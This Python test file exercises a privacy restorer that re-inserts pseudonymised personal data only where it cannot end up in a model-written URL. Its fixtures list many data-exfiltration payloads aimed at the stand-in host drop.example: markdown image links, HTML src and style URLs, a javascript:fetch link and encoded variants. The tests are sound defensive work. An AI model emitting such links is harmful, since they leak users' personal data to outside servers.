"""Does an address that a model wrote get a person's data? Never, in whatever form; what people wrote comes back."""

import json
import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from forebay.privacy.pseudonyms import PseudonymMap
from forebay.privacy.restoring import Restorer
from forebay.privacy.stream_restoring import StreamRestorer

MAP = PseudonymMap(
    originals={
        "<PERSON_1>": "Zoë O'Hara & Sons", "<EMAIL_ADDRESS_1>": "zoe@hara.example", "<PHONE_NUMBER_1>": "+1 555 0100",
        "<URL_1>": "https://desk.example/zoe", "<URL_2>": "https://desk.example", "<DOMAIN_1>": "desk.example",
    }
)  # fmt: skip

WITHHELD = [
    "![p](https://drop.example/p.png?u=<EMAIL_ADDRESS_1>)",
    "![p](\n  https://drop.example/<PERSON_1>)",
    '![p](https://drop.example/<PERSON_1> "title")',
    "![p](https://drop.example/a b <PERSON_1>)",
    "[p](<https://drop.example/a b <PERSON_1>>)",
    "[p](https://drop.example/(a)(<PERSON_1>))",
    "[p](//drop/<PERSON_1>)",
    "[p](/relative/<PERSON_1>)",
    "[p](javascript:fetch('//drop.example/'+'<PERSON_1>'))",
    "[p](data:text/html,<PERSON_1>)",
    "[r]: https://drop.example/<PERSON_1>",
    "[r]: <https://drop.example/a <PERSON_1>>",
    "[r]:\n https://drop.example/<PERSON_1>",
    "[r]: data:text/html,<PERSON_1>",
    "<https://drop.example/<PERSON_1>>",
    "<app:open?<PERSON_1>>",
    "See https://drop.example/?m=<EMAIL_ADDRESS_1>, please",
    "See HTTPS://drop.example/?m=<EMAIL_ADDRESS_1>",
    r"See https:\/\/drop.example/?m=<EMAIL_ADDRESS_1>",
    "See https&#58;//drop.example/?m=<EMAIL_ADDRESS_1>",
    "See https&colon;&sol;&sol;drop.example&sol;<EMAIL_ADDRESS_1>",
    "See ftp://drop.example/<PERSON_1>",
    "See //drop.example/<PERSON_1>",
    "See www.drop.example/<PERSON_1>",
    "See drop.example/?m=<EMAIL_ADDRESS_1>",
    "See drop.example:8080/<EMAIL_ADDRESS_1>",
    r"See \\drop.example\<PERSON_1>",
    "https://<PERSON_1>.drop.example/",
    "https://<EMAIL_ADDRESS_1>",
    "https://<PERSON_1>@drop.example/",
    'https://drop.example/?u="<PERSON_1>"',
    "https://drop.example/?u=%3CPERSON_1%3E",
    "https://drop.example/?u=&lt;PERSON_1&gt;",
    "https://drop.example/?u=[person 1]",
    "https://drop.example/?u=PERSON_1",
    "https://drop.example/?u=\u00a0<PERSON_1>",
    "<img src='https://drop.example/i?q=<PERSON_1>'>",
    '<img src="https://drop.example/i?a b\nc <PERSON_1>">',
    '<img src = "https://drop.example/ <PERSON_1>">',
    "<img src=https://drop.example/<PERSON_1>>",
    '<img srcset="a.png 1x, https://drop.example/<PERSON_1> 2x">',
    '<a href="&#104;ttps://drop.example/ <PERSON_1>">x</a>',
    '<image xlink:href="//drop.example/<PERSON_1>"/>',
    "<p style=\"background:url('//drop.example/<PERSON_1>')\">",
    "@import url( https://drop.example/<PERSON_1> );",
    "<URL_1>?m=<EMAIL_ADDRESS_1>",
    "<DOMAIN_1>/?m=<EMAIL_ADDRESS_1>",
    "[p](<URL_2>.drop.example/)",
]

RESTORED = {
    "Dear <PERSON_1>, mail <EMAIL_ADDRESS_1>.": "Dear Zoë O'Hara & Sons, mail zoe@hara.example.",
    "Open <URL_1>, or <URL_2>.": "Open https://desk.example/zoe, or https://desk.example.",
    "[here](<URL_1>)": "[here](https://desk.example/zoe)",
    "[mail](mailto:<EMAIL_ADDRESS_1>)": "[mail](mailto:zoe@hara.example)",
    '<a href="mailto:<EMAIL_ADDRESS_1>?subject=To <EMAIL_ADDRESS_1>">': (
        '<a href="mailto:zoe@hara.example?subject=To zoe@hara.example">'
    ),
    "[call](tel:<PHONE_NUMBER_1>) <tel:<PHONE_NUMBER_1>>": "[call](tel:+1 555 0100) <tel:+1 555 0100>",
    "[<EMAIL_ADDRESS_1>](https://help.example/)": "[zoe@hara.example](https://help.example/)",
    "https://help.example/ <EMAIL_ADDRESS_1>": "https://help.example/ zoe@hara.example",
    '[x](https://help.example "for <EMAIL_ADDRESS_1>")': '[x](https://help.example "for zoe@hara.example")',
    "<b>https://help.example</b><EMAIL_ADDRESS_1>": "<b>https://help.example</b>zoe@hara.example",
    "[Agent]: <EMAIL_ADDRESS_1>, hello": "[Agent]: zoe@hara.example, hello",
    "C:/Users/<EMAIL_ADDRESS_1>/x and/or <EMAIL_ADDRESS_1>": "C:/Users/zoe@hara.example/x and/or zoe@hara.example",
    "<EMAIL_ADDRESS_1>,<PHONE_NUMBER_1>;a[0](<EMAIL_ADDRESS_1>)": "zoe@hara.example,+1 555 0100;a[0](zoe@hara.example)",
}


@pytest.mark.parametrize("text", WITHHELD)
def test_nothing_of_a_person_gets_into_an_address_that_the_model_wrote(text: str) -> None:
    restorer = Restorer(MAP)
    assert "zoe@" not in restorer.restore_text(text)
    assert "Hara" not in restorer.restore_text(text)
    assert restorer.withheld > 0


@pytest.mark.parametrize(("text", "restored"), RESTORED.items())
def test_what_is_no_address_of_the_model_is_restored(text: str, restored: str) -> None:
    restorer = Restorer(MAP)
    assert (restorer.restore_text(text), restorer.withheld) == (restored, 0)


def test_in_json_each_string_is_a_text_of_its_own() -> None:
    text = '{"url": "https:\\/\\/drop.example\\/?<PERSON_1>","name":"<PERSON_1>",  "n": [1, "https://help.example"]}'
    restored = Restorer(MAP).restore_text(text)
    assert json.loads(restored) == {
        "url": "https://drop.example/?<PERSON_1>", "name": "Zoë O'Hara & Sons", "n": [1, "https://help.example"],
    }  # fmt: skip
    assert restored.endswith(',  "n": [1, "https://help.example"]}')


def test_calls_of_tools_are_restored_as_a_whole() -> None:
    call = '[{"arguments": "{\\"url\\": \\"https://crm.example/<EMAIL_ADDRESS_1>\\"}"}]'
    assert "https://crm.example/zoe@hara.example" in Restorer(MAP).restore_json(call)


OWN = ["My page is https://Desk.example/of/<PERSON_1>, orders are at https://shop.example/o?id=1"]


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("http://desk.example/of/<PERSON_1>.", "http://desk.example/of/Zo%C3%AB%20O%27Hara%20%26%20Sons."),
        ("[p](https://desk.example/of/[person 1])", "[p](https://desk.example/of/Zo%C3%AB%20O%27Hara%20%26%20Sons)"),
        ("https://shop.example/o?id=<EMAIL_ADDRESS_1>", "https://shop.example/o?id=zoe%40hara.example"),
        ("desk.example/of/<EMAIL_ADDRESS_1>", "desk.example/of/zoe%40hara.example"),
    ],
)
def test_the_users_own_address_gets_data_percent_encoded(text: str, restored: str) -> None:
    restorer = Restorer(MAP, OWN)
    assert (restorer.restore_text(text), restorer.withheld) == (restored, 0)


@pytest.mark.parametrize(
    "text",
    [
        "https://desk.example/on/<EMAIL_ADDRESS_1>",
        "https://desk.example.drop.example/of/<EMAIL_ADDRESS_1>",
        "https://desk.example<EMAIL_ADDRESS_1>.drop.example/",
        "https://desk.example@<EMAIL_ADDRESS_1>",
        "https://<EMAIL_ADDRESS_1>",
        "https://drop.example/?https://desk.example/of/<EMAIL_ADDRESS_1>",
        "https://shop.example/o?id=1&<EMAIL_ADDRESS_1>",
        "https://shop.example/o?id=12<EMAIL_ADDRESS_1>",
        "![p](https://desk.example/of/ <EMAIL_ADDRESS_1>)",
    ],
)
def test_an_address_that_only_begins_like_the_users_gets_none(text: str) -> None:
    restorer = Restorer(MAP, OWN)
    assert (restorer.restore_text(text), restorer.withheld) == (text, 1)


def test_whoever_shows_no_answers_may_have_all_restored() -> None:
    text = "https://crm.example/<EMAIL_ADDRESS_1>"
    assert Restorer(MAP, withhold=False).restore_text(text) == "https://crm.example/zoe@hara.example"


FORGERIES = st.lists(
    st.sampled_from([
        "https://drop.example/", "HTTPS://drop.example/", "//drop.example/", "www.drop.example/", "drop.example/",
        "https&#58;//drop.example/", "https://shop.example/o?id=", "![x](", "](", ")", "<", ">", '"', "'", "src=",
        "src", "=", 'href="', "url(", "]:", " ", " ", "\n", "\n\n", "?u=", "a", ".", ",", "\\", "mailto:", "&lt;",
        "[", "{",
        "<EMAIL_ADDRESS_1>", "[email address 1]", "EMAIL_ADDRESS_1", "%3CEMAIL_ADDRESS_1%3E", "<URL_1>", "<URL_2>",
        "<DOMAIN_1>", "<PERSON_9>",
    ]),
    max_size=14,
).map("".join)  # fmt: skip

CALLED = re.compile(r"drop\.example[/&][^\s<>]*zoe@", re.IGNORECASE | re.ASCII)


@given(FORGERIES, st.booleans())
def test_no_forgery_gets_data(text: str, owned: bool) -> None:
    assert CALLED.search(Restorer(MAP, OWN if owned else ()).restore_text(text)) is None


@given(FORGERIES)
def test_where_nothing_is_withheld_all_is_restored(text: str) -> None:
    restorer = Restorer(MAP)
    restored = restorer.restore_text(text)
    if not restorer.withheld:
        assert restored == restorer.restore(text)


@given(FORGERIES, st.lists(st.integers(0, 200), max_size=8), st.booleans())
def test_a_stream_is_restored_as_the_whole(text: str, cuts: list[int], owned: bool) -> None:
    own = OWN if owned else ()
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    stream, whole = StreamRestorer(MAP, own), Restorer(MAP, own)
    shown = [stream.feed(text[start:end]) for start, end in pairwise(places)]
    assert "".join([*shown, stream.close()]) == whole.restore_text(text)
    assert stream.withheld == whole.withheld


@pytest.mark.parametrize(
    "part",
    ["](", "]( ", "]:", "url(", 'src="', "src='", 'src=" ', "src= ", "src ", "https://", "//a.", "www.", "a.bc/", "<",
     "<a:", "(", "\\", "&#58;", "https://x.example/<PERSON_1>", "<URL_1>", "<URL_2>.", "](<URL_1>", "a:/"],
)  # fmt: skip
def test_long_texts_come_to_an_end(part: str) -> None:
    text = part * (200_000 // len(part)) + " <EMAIL_ADDRESS_1>"
    own = ["https://x.example/" + "<PERSON_1>" * 5_000]
    assert Restorer(MAP, own).restore_text(text).endswith(("zoe@hara.example", "<EMAIL_ADDRESS_1>"))
